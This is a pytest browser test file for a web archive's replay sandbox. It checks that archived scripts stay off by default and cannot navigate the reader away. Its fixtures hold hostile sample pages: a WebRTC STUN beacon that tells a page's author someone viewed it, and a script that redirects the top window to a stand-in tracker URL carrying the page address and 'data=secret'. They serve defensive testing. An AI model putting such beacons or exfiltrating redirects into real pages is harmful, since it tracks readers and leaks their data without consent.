"""The capture page and replay in a real browser (Debian chromium via Playwright): replay runs no
archived script unless the reader switches scripts on for one view, so an archived page can neither
tell its author over WebRTC that someone looked (issue 7 item 2) nor send the reader elsewhere by
navigating the top-level page (item 3); a multi-valued Content-Type renders as replay rewrote it
(item 8).

The app is the real UI (`create_app`) with the replay router, over a real little archive.  A UDP
listener on loopback stands for the STUN server an archived script names, and an HTTP server on
127.0.0.5 for the place it tries to send the reader to.
"""

from __future__ import annotations

import time
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from archive.web import create_app
from archive.web.replay import CaptureLookup, build_replay_router
from tests.archive.web.replay.browser import (
    CountingServer,
    UdpListener,
    UvicornThread,
    launch_chromium,
    serve_counting,
    tiny_png,
)
from tests.archive.web.replay.replay_archive import ReplayArchive

T1 = datetime(2026, 11, 25, 15, 30, 0, tzinfo=UTC)
TS1 = "20261125153000"
RTC = "http://tracker.example/rtc"
LEAK = "http://tracker.example/leak"
MIXED = "http://news.example/mixed"
PLAIN_LAST = "http://news.example/plain-last"
LOGO = "http://news.example/static/logo.png"
# How long a page that would send STUN packets is given to send them: the scripted control below
# sees its first packet before the frame has finished loading.
SETTLE_S = 1.0
NOT_RUN = "scripts did not run"

RTC_PAGE = """<!DOCTYPE html><html><head><title>rtc</title></head><body>
<p id="marker">scripts did not run</p>
<script>
document.getElementById("marker").textContent = "scripts ran";
const pc = new RTCPeerConnection({iceServers: [{urls: "stun:@HOST@:@PORT@"}]});
pc.createDataChannel("probe");
pc.createOffer().then((offer) => pc.setLocalDescription(offer));
</script></body></html>"""

LEAK_PAGE = """<!DOCTYPE html><html><head><title>leak</title></head><body>
<p id="marker">scripts did not run</p>
<script>
const marker = document.getElementById("marker");
marker.textContent = "scripts ran";
try {
  top.location.href = "@LEAK@/leak?page=" + encodeURIComponent(location.href) + "&data=secret";
  marker.textContent = "scripts ran; top navigation asked";
} catch (e) { marker.textContent = "scripts ran; top navigation threw " + e.name; }
</script>
<button id="leave" onclick="location.href = '@LEAK@/self?data=secret'">leave</button>
</body></html>"""

MIXED_PAGE = b'<!DOCTYPE html><html><body><p>mixed</p><img id="logo" src="/static/logo.png"></body></html>'


@dataclass(frozen=True)
class Ui:
    url: str
    ids: dict[str, int]

    def capture_page(self, name: str, *, scripts: bool = False) -> str:
        return f"{self.url}/captures/{self.ids[name]}" + ("?scripts=on" if scripts else "")


@pytest.fixture
def stun() -> Iterator[UdpListener]:
    with UdpListener("127.0.0.1") as listener:
        yield listener


@pytest.fixture
def elsewhere() -> Iterator[CountingServer]:
    yield from serve_counting("127.0.0.5")


@pytest.fixture
def ui(tmp_path: Path, stun: UdpListener, elsewhere: CountingServer) -> Iterator[Ui]:
    archive = ReplayArchive.open(tmp_path)
    rtc = RTC_PAGE.replace("@HOST@", stun.host).replace("@PORT@", str(stun.port))
    archive.capture(RTC, T1, rtc.encode(), role="article")
    archive.capture(LEAK, T1, LEAK_PAGE.replace("@LEAK@", elsewhere.url).encode(), role="article")
    archive.capture(MIXED, T1, MIXED_PAGE, content_type="text/plain, text/html")
    archive.capture(PLAIN_LAST, T1, MIXED_PAGE, content_type="text/html, text/plain")
    archive.capture(LOGO, T1 + timedelta(seconds=1), tiny_png(), content_type="image/png")
    archive.writer.close()
    lookup = CaptureLookup(archive.catalog.engine)
    ids = {}
    for name, url in (("rtc", RTC), ("leak", LEAK), ("mixed", MIXED), ("plain-last", PLAIN_LAST)):
        row = lookup.closest(url, T1)
        assert row is not None
        ids[name] = row.id
    app = create_app(catalog=archive.catalog, read_record=lambda capture: None, admin_token=None)
    app.include_router(build_replay_router(engine=archive.catalog.engine, read_record=archive.read_record))
    with UvicornThread(app) as server:
        yield Ui(server.url, ids)
    archive.catalog.close()


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    yield from launch_chromium()


@pytest.fixture
def page(browser: Any) -> Iterator[Any]:
    context = browser.new_context()  # a fresh HTTP cache and cookie jar for every test
    yield context.new_page()
    context.close()


def replay_frame(page: Any) -> Any:
    """The capture page's replay iframe, loaded."""
    frame = page.locator("iframe#replay").element_handle().content_frame()
    assert frame is not None
    frame.wait_for_load_state()
    return frame


def switch_scripts_on(page: Any) -> None:
    """Click the capture page's "replay with scripts" switch (a same-origin navigation) and wait."""
    with page.expect_navigation():
        page.locator("#scripts-on").click()
    page.wait_for_load_state()


def marker(frame: Any) -> str:
    return str(frame.evaluate("document.getElementById('marker').textContent"))


def test_default_view_runs_no_script_and_sends_no_stun_packet(ui: Ui, stun: UdpListener, page: Any) -> None:
    page.goto(ui.capture_page("rtc"))
    frame = replay_frame(page)
    assert "/replay/" in frame.url and "/replay/scripts/" not in frame.url
    time.sleep(SETTLE_S)
    assert stun.packets == [], f"{len(stun.packets)} STUN packets reached the listener"
    assert marker(frame) == NOT_RUN


def test_the_switch_runs_the_scripts_of_that_view_and_they_do_reach_the_network(
    ui: Ui, stun: UdpListener, page: Any
) -> None:
    """The control for the test above (which could fail), and the risk the switch spells out."""
    page.goto(ui.capture_page("rtc"))
    warning = page.locator("#replay-mode").inner_text()
    assert "WebRTC" in warning and "when and from where you looked" in warning
    page.locator("#scripts-on").click()
    page.wait_for_url(ui.capture_page("rtc", scripts=True))
    frame = replay_frame(page)
    assert "/replay/scripts/" in frame.url
    assert marker(frame) == "scripts ran"
    started = time.monotonic()
    assert stun.wait_for_packets(10), "the scripted view sent no STUN packet: the tests above prove nothing"
    print(f"first STUN packet {time.monotonic() - started:.3f} s after the scripted frame loaded")
    assert "Scripts are running" in page.locator("#replay-mode").inner_text()
    page.locator("#scripts-off").click()
    page.wait_for_url(ui.capture_page("rtc"))
    assert marker(replay_frame(page)) == NOT_RUN


@pytest.mark.parametrize(
    "linked_from",
    [
        "127.0.0.6",  # a page on another site
        "127.0.0.1",  # the UI's own host on another port: same-site, yet another origin
        None,  # typed or pasted into the address bar
    ],
)
def test_a_link_asking_for_scripts_from_outside_the_ui_runs_none_until_the_reader_switches(
    ui: Ui, stun: UdpListener, page: Any, linked_from: str | None
) -> None:
    asked = ui.capture_page("rtc", scripts=True)
    if linked_from is None:
        page.goto(asked)
    else:
        with contextmanager(serve_counting)(linked_from) as elsewhere:
            elsewhere.pages["/article"] = f'<!DOCTYPE html><a id="go" href="{asked}">the source</a>'
            page.goto(f"{elsewhere.url}/article")
            with page.expect_navigation():
                page.locator("#go").click()
    assert page.url == asked
    frame = replay_frame(page)
    assert "/replay/scripts/" not in frame.url
    time.sleep(SETTLE_S)
    assert stun.packets == [], f"{len(stun.packets)} STUN packets reached the listener"
    assert marker(frame) == NOT_RUN
    notice = page.locator("#scripts-refused").inner_text()
    assert "asked to replay it with its scripts" in notice and "were not turned on" in notice
    assert "without its scripts" in page.locator("#replay-mode").inner_text()
    # Control: the reader's own click on the switch (a same-origin navigation) does run them, so
    # the checks above could fail.
    switch_scripts_on(page)
    assert page.url == asked
    assert marker(replay_frame(page)) == "scripts ran"
    assert stun.wait_for_packets(10), "the switch ran no script: the checks above prove nothing"
    assert page.locator("#scripts-refused").count() == 0
    assert "Scripts are running" in page.locator("#replay-mode").inner_text()


def test_replay_url_opened_top_level_lands_on_the_capture_page_without_scripts(
    ui: Ui, stun: UdpListener, page: Any
) -> None:
    # The frame's answers are in the HTTP cache first: Vary keeps them from answering a navigation.
    page.goto(ui.capture_page("rtc"))
    replay_frame(page)
    switch_scripts_on(page)
    assert "/replay/scripts/" in replay_frame(page).url
    # Leave the scripted view first: its WebRTC retries STUN for a while, and on a loaded machine
    # a late retry of that frame would be counted against the navigations below.
    page.goto("about:blank")
    time.sleep(SETTLE_S)
    stun.packets.clear()
    for url in (f"{ui.url}/replay/{TS1}/{RTC}", f"{ui.url}/replay/scripts/{TS1}/{RTC}"):
        response = page.goto(url)
        time.sleep(SETTLE_S)
        assert stun.packets == [], f"{url}: {len(stun.packets)} STUN packets reached the listener"
        assert page.url == ui.capture_page("rtc"), url  # never ?scripts=on
        assert response is not None and response.request.redirected_from is not None
        assert marker(replay_frame(page)) == NOT_RUN


def test_the_document_policy_alone_keeps_scripts_off_top_level(ui: Ui, stun: UdpListener, page: Any) -> None:
    """The archived document's own CSP sandbox, without the iframe around it: the browser is handed,
    top-level, exactly what replay answers a frame (as a client without Sec-Fetch-Dest would get)."""

    def as_a_frame(route: Any) -> None:
        route.fulfill(response=route.fetch(headers={"Sec-Fetch-Dest": "iframe"}))

    default = f"{ui.url}/replay/{TS1}/{RTC}"
    page.route(default, as_a_frame)
    page.goto(default)
    assert page.url == default
    assert marker(page.main_frame) == NOT_RUN
    time.sleep(SETTLE_S)
    assert stun.packets == []
    # Control: the same document under the scripted policy does run, so the check above could fail.
    scripted = f"{ui.url}/replay/scripts/{TS1}/{RTC}"
    page.route(scripted, as_a_frame)
    page.goto(scripted)
    assert marker(page.main_frame) == "scripts ran"
    assert stun.wait_for_packets(10)


def test_an_archived_script_cannot_send_the_reader_elsewhere(
    ui: Ui, elsewhere: CountingServer, page: Any
) -> None:
    capture_page = ui.capture_page("leak")
    for url in (f"{ui.url}/replay/{TS1}/{LEAK}", f"{ui.url}/replay/scripts/{TS1}/{LEAK}"):
        page.goto(url)
        assert page.url == capture_page, url
        assert marker(replay_frame(page)) == NOT_RUN
    # With scripts on, the script runs in its frame, but its sandbox forbids navigating the top,
    # and the capture page's frame-src keeps the frame itself from being sent to the live web.
    page.goto(capture_page)
    switch_scripts_on(page)
    frame = replay_frame(page)
    assert marker(frame).startswith("scripts ran")
    console: list[str] = []
    page.on("console", lambda message: console.append(message.text))
    frame.locator("#leave").click()
    time.sleep(SETTLE_S)
    assert page.url == ui.capture_page("leak", scripts=True)
    assert any("frame-src" in line for line in console), console  # it tried, and was refused
    assert elsewhere.hits == []


def test_multi_valued_content_type_renders_as_the_type_replay_rewrote_for(ui: Ui, page: Any) -> None:
    page.goto(ui.capture_page("mixed"))
    frame = replay_frame(page)
    assert frame.evaluate("document.contentType") == "text/html"
    # Rewritten: the root-relative image comes from the archive, not from the UI's own /static/.
    assert frame.evaluate("document.getElementById('logo').naturalWidth") == 1
    page.goto(ui.capture_page("plain-last"))
    frame = replay_frame(page)
    assert frame.evaluate("document.contentType") == "text/plain"
    assert '<img id="logo"' in frame.evaluate("document.body.textContent")
